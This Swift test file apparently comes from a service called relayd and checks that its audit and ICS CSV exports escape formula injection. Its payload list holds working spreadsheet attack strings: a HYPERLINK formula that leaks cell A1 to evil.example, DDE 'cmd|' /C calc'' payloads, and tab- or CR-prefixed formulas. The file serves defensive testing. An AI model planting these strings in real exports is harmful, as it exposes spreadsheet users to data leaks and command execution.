import Foundation
import Testing
@testable import relayd

/// Formula injection through the real relayd: values an attacker typed (a caption, an activity
/// note, an incident name) come back in the audit and ICS CSV exports as text a spreadsheet
/// shows, never as a formula, and a line break inside a value never starts a new row.
@Suite(.serialized) struct CSVInjectionTests {
    static let payloads = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "line one\r\n=1+1,second row", "line one\n@evil",
    ]

    /// The cells of a CSV document, parsed as RFC 4180 says (quoted cells may hold CR, LF, commas).
    static func records(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var cell = ""
        var quoted = false
        var scalars = text.unicodeScalars.makeIterator()
        var pending: Unicode.Scalar? = nil
        while let scalar = pending ?? scalars.next() {
            pending = nil
            if quoted {
                if scalar == "\"" {
                    let next = scalars.next()
                    if next == "\"" { cell.unicodeScalars.append("\"") } else { quoted = false; pending = next }
                } else {
                    cell.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" && cell.isEmpty {
                quoted = true
            } else if scalar == "," {
                record.append(cell); cell = ""
            } else if scalar == "\r" {
                let next = scalars.next()
                #expect(next == "\n", "a bare CR outside quotes")
                record.append(cell); records.append(record); record = []; cell = ""
            } else {
                cell.unicodeScalars.append(scalar)
            }
        }
        return records
    }

    /// A spreadsheet runs a cell as a formula when its first character is one of these.
    static func isFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        return ["=", "+", "-", "@", "\t", "\r"].contains(first)
    }

    @Test func theAuditExportShowsCaptionsAndActorsAsText() async throws {
        let relayd = try RelaydProcess(configYAML: AuditTrailAttackTests.openConfig)
        try await relayd.waitReady()
        for payload in Self.payloads {
            let body = try JSONSerialization.data(withJSONObject: ["text": payload])
            let (status, _) = try await RelaydHTTP.request(port: relayd.httpPort, method: "PUT", path: "/api/program/caption", body: body, headers: ["X-Actor": "=cmd|' /C calc'!A0"])
            #expect(status == 200)
        }
        let (status, csv) = try await RelaydHTTP.get(port: relayd.httpPort, path: "/api/audit?format=csv&action=program.caption")
        #expect(status == 200)
        let records = Self.records(String(decoding: csv, as: UTF8.self))
        #expect(records.count == 1 + Self.payloads.count, "one row per entry, whatever the line breaks in them")
        #expect(records.allSatisfy { $0.count == 9 })
        #expect(!records.flatMap { $0 }.contains(where: Self.isFormula))
        #expect(records.dropFirst().allSatisfy { $0[2] == "'=cmd|' /C calc'!A0" })
        #expect(zip(records.dropFirst(), Self.payloads).allSatisfy { $0[5].hasSuffix("; text=" + $1) }, "\(records)")
        #expect(try await relayd.stop() == 0)
    }

    @Test func theICSExportShowsActivityNotesAndIncidentNamesAsText() async throws {
        let relayd = try RelaydProcess(configYAML: AuditTrailAttackTests.openConfig)
        try await relayd.waitReady()
        func post(_ path: String, _ object: [String: Any]) async throws -> [String: Any] {
            let (status, body) = try await RelaydHTTP.request(
                port: relayd.httpPort, method: "POST", path: path, body: try JSONSerialization.data(withJSONObject: object), headers: ["X-Actor": "@mallory"])
            #expect((200..<300).contains(status), "\(path): \(String(decoding: body, as: UTF8.self))")
            return (try JSONSerialization.jsonObject(with: body) as? [String: Any]) ?? [:]
        }
        let unit = try await post("/api/fieldops/units", ["callsign": "-MIYAGI-TSU-1", "home_base": "=Sendai"])
        let unitID = try #require((unit["unit"] as? [String: Any])?["id"] as? Int ?? unit["id"] as? Int)
        let deployment = try await post("/api/fieldops/deployments", [
            "kind": "disaster", "incident_name": "+Kesennuma flood", "location": "Kesennuma port", "lead_unit_id": unitID,
        ])
        let id = try #require((deployment["deployment"] as? [String: Any])?["id"] as? Int)
        for payload in Self.payloads { _ = try await post("/api/fieldops/deployments/\(id)/activity", ["text": payload]) }
        _ = try await post("/api/fieldops/deployments/\(id)/transitions", ["to": "mobilizing", "version": 1])
        _ = try await post("/api/fieldops/deployments/\(id)/check-ins", ["unit_id": unitID, "assignment": "=uplink"])
        for form in ["211", "214", "218"] {
            let (status, csv) = try await RelaydHTTP.get(port: relayd.httpPort, path: "/api/fieldops/deployments/\(id)/ics/\(form)?format=csv")
            #expect(status == 200)
            let records = Self.records(String(decoding: csv, as: UTF8.self))
            #expect(!records.flatMap { $0 }.contains(where: Self.isFormula), "ICS-\(form): \(records)")
            #expect(Set(records.map(\.count)).count == 1, "ICS-\(form): every row has the header's cells")
            if form == "214" {
                // FieldOps trims surrounding whitespace from notes; what is left must still be neutralised.
                let expected = Self.payloads.map { $0.trimmingCharacters(in: .whitespacesAndNewlines) }.map { Self.isFormula($0) ? "'" + $0 : $0 }
                #expect(expected.allSatisfy { cell in records.contains { $0.last == cell } }, "\(records)")
            }
        }
        #expect(try await relayd.stop() == 0)
    }
}
